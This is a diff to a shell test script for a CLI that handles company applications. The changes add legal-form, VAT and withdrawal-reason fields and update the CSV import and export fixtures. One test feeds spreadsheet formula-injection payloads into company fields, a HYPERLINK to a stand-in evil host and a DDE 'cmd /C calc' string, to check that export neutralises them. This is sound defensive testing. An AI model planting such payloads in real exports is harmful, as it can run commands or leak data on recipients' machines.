@@ -34,7 +34,7 @@ expect_err "unknown option '--bogus'" "the usage error names the flag"
 
 # --- submit ----------------------------------------------------------------
 company=(--siren 123456782 --siret 12345678200010 --legal-name "Boulangerie Test SARL"
-	--trade-name "Au Pain d'Essai" --naf 10.71C --vat FR11123456782 --employees 4
+	--legal-form sarl --trade-name "Au Pain d'Essai" --naf 10.71C --vat FR11123456782 --employees 4
 	--turnover-eur 180000 --balance-eur 90000 --address "12 rue des Lilas"
 	--postal-code 75011 --city Paris --contact-name "Marie Essai"
 	--email marie.essai@example.fr --phone "01 99 00 12 34" --channel marketplace
@@ -63,6 +63,7 @@ expect_err "accepts_terms" "the terms are named"
 
 cat >"$dir/app.json" <<'EOF'
 {"company": {"siren": "625308291", "legalName": "Fichier JSON SAS", "nafCode": "47.91A",
+  "legalForm": "LEGAL_FORM_SAS", "vatNumber": "FR78625308291",
   "employees": 12, "turnoverEur": "3000000", "balanceSheetEur": "1500000",
   "address": {"street": "3 place des Écoles", "postalCode": "20200", "city": "Bastia"}},
  "contact": {"name": "Jean Fichier", "email": "jean.fichier@example.com", "phone": "0696 12 34 56"},
@@ -132,12 +133,16 @@ cli get "$id"
 expect_out "^Benefits +fee waiver" "get shows the benefits"
 expect_out "dossier complet" "the note is in the history"
 
-cli withdraw "$id2" --version 9
+# The local administrator is staff: a withdrawal on the company's request needs a reason.
+cli withdraw "$id2"
+expect_rc 67 "staff withdraw only with a reason"
+expect_err "^  reason: is required" "the reason is named"
+cli withdraw "$id2" --version 9 --reason "asked by phone"
 expect_rc 74 "withdraw with a stale version"
 cli withdraw "$id2" --reason "changed its mind"
 expect_rc 0 "withdraw"
 expect_out "WITHDRAWN, no seat" "withdraw frees the seat"
-cli withdraw "$id2"
+cli withdraw "$id2" --reason "asked again"
 expect_rc 73 "withdrawing twice is FAILED_PRECONDITION"
 
 # --- cohorts -------------------------------------------------------------
@@ -155,7 +160,8 @@ expect_rc 70 "creating it again is ALREADY_EXISTS"
 cli submit "${company[@]}" --accept-terms --cohort tiny
 expect_rc 0 "submit to the small cohort"
 cli submit --siren 625308291 --legal-name "Fichier JSON SAS" --naf 47.91A --address "3 place" \
-	--postal-code 20200 --city Bastia --contact-name "Jean Fichier" \
+	--legal-form sas --vat FR78625308291 --employees 12 --turnover-eur 3000000 \
+	--balance-eur 1500000 --postal-code 20200 --city Bastia --contact-name "Jean Fichier" \
 	--email jean.fichier@example.com --phone "0696 12 34 56" --channel both --accept-terms \
 	--cohort tiny
 expect_rc 0 "submit beyond the capacity"
@@ -189,12 +195,12 @@ expect_out "^summary: .* 0 created \(none\), $expected already imported, $refuse
 	"nothing is created twice"
 expect_eq "$(applications)" "$((before + expected))" "the count of applications is unchanged"
 
-printf '\xef\xbb\xbfSIREN,Legal_Name,naf,address,postal_code,city,contact_name,email,phone,channel,export,categories,accepts_terms\r\n' >"$dir/small.csv"
-printf '708101118,"Le ""Quai"", Atelier SARL",47.91B,"1 quai, bis",29200,Brest,Anne Quai,anne.quai@example.fr,02 61 91 00 01,both,yes, art ; crafts ;,\r\n' >>"$dir/small.csv"
-printf ',,,,,,,,,,,,\r\n' >>"$dir/small.csv"
-printf '289906083,Sans Termes SAS,47.91B,2 rue,29200,Brest,Paul Terme,paul.terme@example.fr,02 61 91 00 02,both,no,,false\r\n' >>"$dir/small.csv"
-printf '123456782,Autre Boulangerie SARL,10.71C,3 rue,75011,Paris,Luc Autre,luc.autre@example.fr,01 99 00 00 03,webshop,no,food,\r\n' >>"$dir/small.csv"
-printf '261352413,Employes SARL,10.71C,3 rue,75011,Paris,Luc Autre,luc.autre@example.fr,01 99 00 00 03,webshop,maybe,food,\r\n' >>"$dir/small.csv"
+printf '\xef\xbb\xbfSIREN,Legal_Name,naf,address,postal_code,city,contact_name,email,phone,channel,export,categories,accepts_terms,Legal-Form,vat,employees,turnover_eur,balance_eur\r\n' >"$dir/small.csv"
+printf '708101118,"Le ""Quai"", Atelier SARL",47.91B,"1 quai, bis",29200,Brest,Anne Quai,anne.quai@example.fr,02 61 91 00 01,both,yes, art ; crafts ;,,SARL,FR68708101118,2,90000,40000\r\n' >>"$dir/small.csv"
+printf ',,,,,,,,,,,,,,,,,\r\n' >>"$dir/small.csv"
+printf '289906083,Sans Termes SAS,47.91B,2 rue,29200,Brest,Paul Terme,paul.terme@example.fr,02 61 91 00 02,both,no,,false,sas,FR62289906083,1,50000,20000\r\n' >>"$dir/small.csv"
+printf '123456782,Autre Boulangerie SARL,10.71C,3 rue,75011,Paris,Luc Autre,luc.autre@example.fr,01 99 00 00 03,webshop,no,food,,sarl,FR11123456782,3,100000,50000\r\n' >>"$dir/small.csv"
+printf '261352413,Employes SARL,10.71C,3 rue,75011,Paris,Luc Autre,luc.autre@example.fr,01 99 00 00 03,webshop,maybe,food,,sarl,FR43261352413,3,100000,50000\r\n' >>"$dir/small.csv"
 cli import "$dir/small.csv"
 expect_rc 67 "the first refused line decides the exit status"
 expect_out "^line 2: 708101118 created SUBMITTED" "BOM, CRLF, quotes and any column order"
@@ -237,6 +243,7 @@ expect_err "line 2: a quoted field opened on this line is never closed" "the quo
 # printable text): export neutralises them, import of the export gives them back unchanged.
 cli submit --siren 412345670 --legal-name '=HYPERLINK("http://evil.example/?x","Relevé")' \
 	--trade-name '@SUM(1+1)' --naf 47.91B --address '-1+2 rue des Formules' \
+	--legal-form ei --employees 1 --turnover-eur 10000 --balance-eur 5000 \
 	--postal-code 29200 --city Brest --contact-name "+cmd|' /C calc'!A0" \
 	--email formule@example.fr --phone "02 61 91 00 09" --channel both --accept-terms
 expect_rc 0 "a company with formula-like text"
@@ -244,7 +251,7 @@ total=$(applications)
 cli export --cohort 2020-11
 expect_rc 0 "export"
 expect_eq "$(head -1 "$dir/out")" \
-	"siren,siret,legal_name,trade_name,naf,vat,employees,turnover_eur,balance_eur,address,postal_code,city,contact_name,email,phone,channel,export,categories,cohort,id,state,size,departement,region,submitted_at,version" \
+	"siren,siret,legal_name,trade_name,naf,vat,employees,turnover_eur,balance_eur,address,postal_code,city,contact_name,email,phone,channel,export,categories,cohort,legal_form,terms_version,terms_accepted_at,id,state,size,departement,region,submitted_at,version" \
 	"the export's header"
 expect_eq "$(python3 -c 'import csv, sys; print(len(list(csv.reader(open(sys.argv[1], encoding="utf-8")))) - 1)' "$dir/out")" \
 	"$total" "one CSV record per application"
@@ -270,7 +277,7 @@ cli import "$dir/export.csv" --cohort copy --quiet
 expect_rc 0 "an export imports back, into another cohort"
 expect_eq "$(applications copy)" "$total" "the copy holds every application"
 cli get --siren 412345670 --cohort copy
-expect_out '^Company +=HYPERLINK\("http://evil.example/\?x","Relevé"\) \(trading as @SUM\(1\+1\)\)$' \
+expect_out '^Company +=HYPERLINK\("http://evil.example/\?x","Relevé"\), EI \(trading as @SUM\(1\+1\)\)$' \
 	"import takes the export's quote off"
 expect_out "^Contact +\\+cmd\\|' /C calc'!A0 <formule@example.fr>, \\+33261910009$" \
 	"and the contact's"
